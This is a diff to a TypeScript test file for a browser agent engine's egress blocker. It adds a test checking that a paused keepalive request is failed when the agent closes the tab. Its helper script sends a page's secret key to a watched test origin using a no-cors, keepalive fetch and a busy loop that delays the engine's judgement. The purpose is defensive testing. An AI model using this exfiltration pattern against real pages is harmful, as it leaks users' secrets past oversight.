@@ -1,7 +1,7 @@
 // What the engine holds paused fails closed as it lets go of a tab, on real Chromium through the fallback's host: a
 // request an agent's script left, paused while the engine waits to judge it, is failed, not sent, when the tab's page
 // context is disposed (the session ends, the engine stops driving the tab), though Chrome would send every request
-// Fetch still holds once Fetch is disabled.
+// Fetch still holds once Fetch is disabled; and a keepalive send paused as the agent closes the tab is failed too.
 import { afterEach, describe, expect, it } from 'vitest';
 import type { Cdp, CdpEvent } from '../../shared/engine/cdp.js';
 import { createEngineExecutor } from '../../shared/engine/executor.js';
@@ -36,11 +36,11 @@ async function openPage(): Promise<PageContext> {
 /**
  * A script that sends the page's key to the watched site at `path` from a timer, then keeps the page's thread busy: the
  * tab tells the request's initiator only seconds later, and until then the engine waits to judge it, paused
- * (egress-trail.ts). The page sets `window[done]` once the fetch settled.
+ * (egress-trail.ts). The page sets `window[done]` once the fetch settled. `options`: more of the fetch's options.
  */
-function busySend(path: string, done: string): string {
+function busySend(path: string, done: string, options = ''): string {
   return `setTimeout(() => { fetch('${engine.watched.origin}${path}?key=' + encodeURIComponent(${KEY}),
-    { mode: 'no-cors' }).catch(() => undefined).finally(() => (window.${done} = true));
+    { mode: 'no-cors'${options} }).catch(() => undefined).finally(() => (window.${done} = true));
     const busy = Date.now() + 3000; while (Date.now() < busy); }, 300); 0`;
 }
 
@@ -92,5 +92,22 @@ describe('as the engine lets go of a tab', () => {
     expect((await failed).map((send) => send.url.replace(engine.watched.origin, 'W'))).toEqual([
       'W/session-end?key=API%20key%20sk_live_Late_Page_Key_5521',
     ]);
+  });
+
+  it("fails, not sends, a script's keepalive send paused as the agent closes the tab", async () => {
+    const executor = createEngineExecutor(suite.browser.host, { tag: 'tc', policy: () => gate.current() });
+    const url = suite.server.url('egress-late.html?close');
+    await executor.run('tab_new', { url }, ctx);
+    const tabId = (await suite.browser.host.list()).find((tab) => tab.url === url)!.id;
+    const cdp = await suite.browser.host.cdp(tabId);
+    // A keepalive request outlives its page: closing the tab does not cancel it.
+    await executor.run('eval', { expression: busySend('/closed', 'closedDone', ', keepalive: true') }, ctx);
+    await pausedAt(cdp, '/closed');
+    await executor.run('tab_close', {}, ctx);
+    await executor.dispose();
+    await engine.watched.settled();
+    // Another tab's own send, after: what reached the site before it arrived.
+    const other = await openPage();
+    expect(await reachedSite(other, engine.watched)).toEqual([]);
   });
 });
